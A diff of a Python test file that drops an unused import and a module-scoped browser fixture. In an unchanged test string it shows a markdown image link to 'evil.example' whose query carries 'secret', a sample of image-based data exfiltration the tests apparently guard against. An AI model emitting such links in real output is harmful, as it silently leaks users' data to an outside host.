@@ -5,12 +5,10 @@ from __future__ import annotations
 import asyncio
 import json
 import os
-from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
 
 import pytest
-import pytest_asyncio
 
 import plait
 import window_axe
@@ -44,12 +42,6 @@ def add(a: int, b: int) -> int:
 1. The numbers are from [the statistics office](https://insee.example/towns).
 2. There is also ![a map](https://evil.example/map.png?q=secret).
 """
-
-
-@pytest_asyncio.fixture(scope="module", loop_scope="module")
-async def browser() -> AsyncIterator[Browser]:
-    async with Browser.started() as started:
-        yield started
 
 
 async def opened(browser: Browser, server: Here, at: str = "", **look: Any) -> Page:
